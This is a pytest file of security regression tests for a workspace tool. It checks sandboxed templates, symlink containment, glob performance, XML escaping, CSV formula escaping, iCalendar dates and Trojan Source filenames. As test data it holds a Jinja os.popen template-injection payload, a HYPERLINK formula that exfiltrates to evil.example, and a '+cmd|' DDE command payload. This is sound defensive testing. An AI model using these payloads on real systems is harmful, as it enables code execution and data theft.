"""Hostile input (audit 26, findings 3, 4, 9, 13, 14, 15, 17): sandboxed document templates, symlinks that leave the
workspace, a deep `parent:` chain, `exclude:` globs that could backtrack, XML-forbidden characters in feeds, CSV
formula injection and a due date on the last day of year 9999."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import time
import xml.dom.minidom
from pathlib import Path
from typing import Any, Callable

import pytest
from click.testing import Result

from workspace_tool.errors import WorkspaceError

Run = Callable[..., Result]
Write = Callable[[str, str], Path]

PAYLOAD = '{{ cycler.__init__.__globals__.os.popen("echo pwned > %s").read() }}'


# 3: document templates and process steps run in the sandbox


def test_a_document_template_cannot_run_code(workspace: Path, wm: Run) -> None:
    marker = workspace.parent / "PWNED"
    (workspace / "templates").mkdir()
    (workspace / "templates/note.md").write_text("---\ntitle: {{ title | yaml }}\n---\n" + PAYLOAD % marker + "\n", encoding="utf-8")
    result = wm("-C", str(workspace), "new", "note", "hi")
    assert result.exit_code != 0
    assert "templates/note.md: template error" in result.output and "unsafe" in result.output
    assert not marker.exists() and not (workspace / "notes/hi.md").exists()


def test_a_process_step_cannot_run_code(workspace: Path) -> None:
    from workspace_tool.create import render_text

    marker = workspace.parent / "PWNED"
    with pytest.raises(WorkspaceError, match=r"templates/processes/x\.md:5: template error: .*unsafe"):
        render_text(workspace, PAYLOAD % marker, {"title": "t"}, "templates/processes/x.md:5")
    assert not marker.exists()


def test_sandboxed_templates_keep_their_variables_filters_and_loops(workspace: Path, wm: Run) -> None:
    (workspace / "templates").mkdir()
    (workspace / "templates/note.md").write_text(
        "---\ntitle: {{ title | yaml }}\n---\n{% for w in title.split() %}- {{ w | upper }}\n{% endfor %}", encoding="utf-8"
    )
    result = wm("-C", str(workspace), "new", "note", "a: b c")
    assert result.exit_code == 0, result.output
    assert (workspace / "notes/a-b-c.md").read_text(encoding="utf-8") == "---\ntitle: 'a: b c'\n---\n- A:\n- B\n- C\n"


# 4: symlinks that leave the workspace are not followed


@pytest.mark.skipif(not hasattr(os, "symlink") or not hasattr(os, "mkfifo"), reason="needs symlinks and FIFOs")
def test_symlinks_outside_the_workspace_are_not_read(workspace: Path, write_doc: Write, wm: Run, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "secret.md").write_text("---\ntitle: Secret\n---\nCI_DEPLOY_TOKEN=hunter2\n", encoding="utf-8")
    (outside / "more").mkdir()
    (outside / "more/foreign.md").write_text("---\ntitle: Foreign\n---\n", encoding="utf-8")
    write_doc("notes/real.md", "---\ntitle: Real\n---\n")
    write_doc("shared/inside.md", "---\ntitle: Inside\n---\n")
    os.symlink(outside / "secret.md", workspace / "notes/leak.md")
    os.symlink(outside / "more", workspace / "notes/more")
    os.symlink("/dev/zero", workspace / "notes/zero.md")
    os.mkfifo(workspace / "notes/fifo.md")
    os.symlink("fifo.md", workspace / "notes/to-fifo.md")
    os.symlink("../shared", workspace / "notes/linked")  # inside: read as before
    result = wm("-C", str(workspace), "validate")
    out = result.output
    for link, target in (("notes/leak.md", outside / "secret.md"), ("notes/more", outside / "more"), ("notes/zero.md", Path("/dev/zero"))):
        assert f"{link}:1: warning: symlink to {target.resolve()}, outside the workspace: not read" in out, out
    assert "2 documents, 0 errors" in out  # real, and inside (through the link or not: a folder is read once)
    listed = wm("-C", str(workspace), "list", "--json").output
    assert "hunter2" not in listed and "Secret" not in listed and "Foreign" not in listed
    assert '"title": "Inside"' in listed and '"title": "Real"' in listed


def test_an_excluded_symlink_outside_is_skipped_without_a_warning(workspace: Path, write_doc: Write, wm: Run, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "x.md").write_text("---\ntitle: X\n---\n", encoding="utf-8")
    (workspace / "workspace.yml").write_text("name: test\nexclude: [vendor]\n", encoding="utf-8")
    write_doc("notes/real.md", "---\ntitle: Real\n---\n")
    os.symlink(outside, workspace / "vendor")
    result = wm("-C", str(workspace), "validate")
    assert "symlink" not in result.output and "exclude-unused" not in result.output and "1 document," in result.output


def test_discovery_does_not_resolve_entries_that_are_no_symlinks(workspace: Path, write_doc: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    """The cost guard: a workspace without links makes no realpath call (scandir's d_type says what is a link)."""
    from workspace_tool import loader

    for i in range(50):
        write_doc(f"notes/n{i}.md", "---\ntitle: n\n---\n")
    calls: list[str] = []
    real = os.path.realpath

    def spy(path: str) -> str:
        calls.append(path)
        return real(path)

    monkeypatch.setattr(loader.os.path, "realpath", spy)
    settings, _ = loader.read_settings(workspace)
    found, problems = loader.discover(workspace, settings)
    assert len(found) == 50 and problems == [] and calls == []


# 9: a deep parent chain


def test_a_parent_chain_500_deep_schedules(workspace: Path, write_doc: Write, wm: Run) -> None:
    write_doc("projects/p/project.md", "---\ntitle: P\nstatus: active\n---\n")
    for i in range(500):
        parent = f"parent: c{i - 1}\n" if i else ""
        write_doc(f"projects/p/tasks/c{i}.md", f"---\ntitle: C{i}\nstatus: todo\nestimate: 1h\n{parent}---\n")
    result = wm("-C", str(workspace), "schedule", "--json")
    assert result.exit_code == 0, result.output
    assert "internal error" not in result.output and '"c0"' in result.output


def test_summary_records_span_their_subtasks_at_every_depth(workspace: Path, write_doc: Write, wm: Run) -> None:
    write_doc("projects/p/project.md", "---\ntitle: P\nstatus: active\n---\n")
    write_doc("projects/p/tasks/top.md", "---\ntitle: Top\nstatus: todo\n---\n")
    write_doc("projects/p/tasks/mid.md", "---\ntitle: Mid\nstatus: todo\nparent: top\n---\n")
    write_doc("projects/p/tasks/a.md", "---\ntitle: A\nstatus: todo\nestimate: 8h\nparent: mid\n---\n")
    write_doc("projects/p/tasks/b.md", "---\ntitle: B\nstatus: todo\nestimate: 8h\nparent: mid\ndepends_on: [a]\n---\n")
    import json

    plan = json.loads(wm("-C", str(workspace), "schedule", "--json").output)
    tasks = {t["id"]: t for t in plan["tasks"]} if isinstance(plan["tasks"], list) else plan["tasks"]
    assert tasks["top"]["start"] == tasks["mid"]["start"] == tasks["a"]["start"]
    assert tasks["top"]["end"] == tasks["mid"]["end"] == tasks["b"]["end"] != tasks["a"]["end"]


# 13: exclude globs match in linear time


def test_a_glob_of_twelve_double_stars_matches_a_deep_path_fast() -> None:
    from workspace_tool.loader import ExcludeRules

    deep = "/".join(["a"] * 31)
    for glob in ("/".join(["**"] * 12) + "/zz", "/".join(["**", "a"] * 12) + "/zz", "*a*a*a*a*a*a*a*a*a*a*a*a*b"):
        rules = ExcludeRules((glob,))
        started = time.perf_counter()
        assert not rules.matching(deep, False) and not rules.matching("a" * 250, False)
        assert time.perf_counter() - started < 0.05, glob


@pytest.mark.parametrize(
    ("glob", "path", "matches"),
    [
        ("**/**/zz", "zz", True), ("**/**/zz", "a/b/zz", True), ("**/**/zz", "a/zzz", False),
        ("a/**/**/b", "a/b", True), ("a/**/**/b", "a/x/y/b", True), ("a/**/**/b", "x/a/b", False),
        ("**/a/**/b/**/c", "a/b/c", True), ("**/a/**/b/**/c", "x/a/y/a/b/z/c", True), ("**/a/**/b/**/c", "a/c/b", False),
        ("drafts/**", "drafts/x/y.md", True), ("drafts/**/**", "drafts/x.md", True), ("drafts/**", "drafts", False),
        ("*a*b", "xaxxb", True), ("*a*b", "xbxa", False), ("n/*.md", "n/s/a.md", False), ("a*", "b/ab", True),
    ],
)
def test_globs_with_runs_of_stars_match_as_gitignore_does(glob: str, path: str, matches: bool) -> None:
    from workspace_tool.loader import ExcludeRules

    assert ExcludeRules((glob,)).matching(path, False) is matches


# 14: characters XML forbids never reach a feed


def test_xml_escaping_replaces_forbidden_characters() -> None:
    from workspace_tool.site.xmltext import escape, quoteattr

    text = "a\x0bb\x00c\x1fd\ufffe\uffff\ud800e\tf\ng\rh<&>"
    document = f"<r a={quoteattr(text)}>{escape(text)}</r>".encode()  # a lone surrogate would not even encode
    root: Any = xml.dom.minidom.parseString(document).documentElement
    assert root.firstChild.data == "a\ufffdb\ufffdc\ufffdd\ufffd\ufffd\ufffde\tf\ng\nh<&>"  # a parser reads CR as LF
    assert root.getAttribute("a") == "a\ufffdb\ufffdc\ufffdd\ufffd\ufffd\ufffde\tf\ng\rh<&>"


def test_a_title_with_a_control_character_leaves_the_feeds_well_formed(workspace: Path, write_doc: Write, wm: Run) -> None:
    write_doc("projects/p/project.md", "---\ntitle: P\nstatus: active\n---\n")
    write_doc("projects/p/tasks/ctrl.md", '---\ntitle: "Release \\v notes \\x01"\nstatus: todo\n---\n')
    env = {**os.environ, "GIT_AUTHOR_NAME": "Eve \x01", "GIT_AUTHOR_EMAIL": "e@example.com", "GIT_COMMITTER_NAME": "Eve",
           "GIT_COMMITTER_EMAIL": "e@example.com", "GIT_AUTHOR_DATE": "2026-11-20T10:00:00", "GIT_COMMITTER_DATE": "2026-11-20T10:00:00"}
    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "ctrl \x0b commit"]):
        subprocess.run(["git", *args], cwd=workspace, env=env, check=True, capture_output=True)
    out = workspace.parent / "site-out"
    result = wm("-C", str(workspace), "site", "build", "--out", str(out))
    assert result.exit_code == 0, result.output
    for feed in (out / "feed.xml", out / "feeds/p.xml"):
        text = feed.read_text(encoding="utf-8")
        assert "Release \ufffd notes" in text
        xml.dom.minidom.parse(str(feed))  # raises ExpatError when not well-formed


# 15: CSV formula injection


HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_list_csv_makes_formulas_text_and_keeps_numbers(workspace: Path, write_doc: Write, wm: Run) -> None:
    write_doc("projects/p/project.md", "---\ntitle: P\nstatus: active\n---\n")
    write_doc("projects/p/tasks/evil.md", f"---\ntitle: '{HOSTILE_TITLE}'\nstatus: todo\ntags: ['@SUM(1+1)', '-x']\n---\n")
    write_doc("projects/p/tasks/plus.md", "---\ntitle: +cmd|' /C calc'!A0\nstatus: todo\nx-delta: -3\nx-frac: -0.5\n---\n")
    result = wm("-C", str(workspace), "list", "--type", "task", "--csv", "--fields", "id,title,tags,x-delta,x-frac")
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in _rows(result.output)}
    assert rows["evil"]["title"] == "'" + HOSTILE_TITLE
    assert rows["evil"]["tags"].startswith("'@SUM(1+1)")
    assert rows["plus"]["title"] == "'+cmd|' /C calc'!A0"
    assert (rows["plus"]["x-delta"], rows["plus"]["x-frac"]) == ("-3", "-0.5")


def test_export_csv_makes_formulas_text_and_keeps_numbers(workspace: Path, write_doc: Write, wm: Run) -> None:
    write_doc("projects/p/project.md", "---\ntitle: P\nstatus: active\n---\n")
    write_doc("projects/p/tasks/evil.md", f"---\ntitle: '{HOSTILE_TITLE}'\nstatus: todo\nx-delta: -3\nx-frac: -0.5\nx-note: \"\\tTAB\"\n---\n")
    result = wm("-C", str(workspace), "export", "csv", "--type", "task")
    assert result.exit_code == 0, result.output
    (row,) = _rows(result.output)
    assert row["title"] == "'" + HOSTILE_TITLE and row["x-note"] == "'\tTAB"
    assert (row["x-delta"], row["x-frac"]) == ("-3", "-0.5")


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("-3", "-3"), ("-0.5", "-0.5"), ("+4", "+4"), ("1e5", "1e5"), ("a=b", "a=b"), ("", "")],
)
def test_csv_cells(value: str, written: str) -> None:
    from workspace_tool.output import csv_text

    (row,) = list(csv.reader(io.StringIO(csv_text(["v"], [[value]]), newline="")))[1:]
    assert row == [written]


# 17: due 9999-12-31 in an iCalendar export


def test_ical_export_of_a_due_date_on_the_last_day(workspace: Path, write_doc: Write, wm: Run) -> None:
    write_doc("projects/p/project.md", "---\ntitle: P\nstatus: active\n---\n")
    write_doc("projects/p/tasks/far.md", "---\ntitle: Far\nstatus: todo\ndue: 9999-12-31\n---\n")
    write_doc("projects/p/tasks/ms.md", "---\ntitle: MS\nstatus: todo\nmilestone: true\ndue: 9999-12-31\n---\n")
    write_doc("projects/p/tasks/near.md", "---\ntitle: Near\nstatus: todo\ndue: 2026-12-01\n---\n")
    result = wm("-C", str(workspace), "export", "ical")
    assert result.exit_code == 0, result.output
    events = {re.search(r"UID:(\S+)", e).group(1): e for e in result.output.split("BEGIN:VEVENT")[1:]}  # type: ignore[union-attr]
    for uid in ("due-far@wm", "milestone-ms@wm"):
        assert "DTSTART;VALUE=DATE:99991231" in events[uid] and "DTEND" not in events[uid]  # one day long (RFC 5545 3.6.1)
    assert re.search(r"DTSTART;VALUE=DATE:20261201\r?\nDTEND;VALUE=DATE:20261202", events["due-near@wm"])


def test_terminal_output_escapes_characters_that_reorder_or_hide_text() -> None:
    """Hostile audit L26: `notes/rtl\u202egpj.md` printed as `...dm.jpg` (Trojan Source); RTL marks and joiners stay."""
    from workspace_tool.output import printable

    assert printable("notes/rtl\u202egpj.md") == "notes/rtl\\u202egpj.md"
    assert printable("a\u2066b\u2069c\u200bd\ufeff") == "a\\u2066b\\u2069c\\u200bd\\ufeff"
    kept = "שלום\u200f abc \u200d👩\u200d💻 می\u200cخواهم"
    assert printable(kept) == kept and printable("a\x1bb") == "a\\x1bb"


def test_a_tab_indented_frontmatter_says_yaml_indents_with_spaces() -> None:
    from workspace_tool.yamlload import load_yaml

    data, problems = load_yaml("title: T\nparent:\n\tchild: 1\n", "notes/t.md", 1)
    assert data is None and "YAML indents with spaces, not tabs" in problems[0].message and problems[0].line == 4


def test_a_yaml_error_at_the_end_of_the_text_is_reported_not_an_internal_error() -> None:
    from workspace_tool.yamlload import load_yaml

    data, problems = load_yaml("title: [unclosed\n", "notes/b.md", 1)
    assert data is None and problems[0].code == "yaml" and "tabs" not in problems[0].message
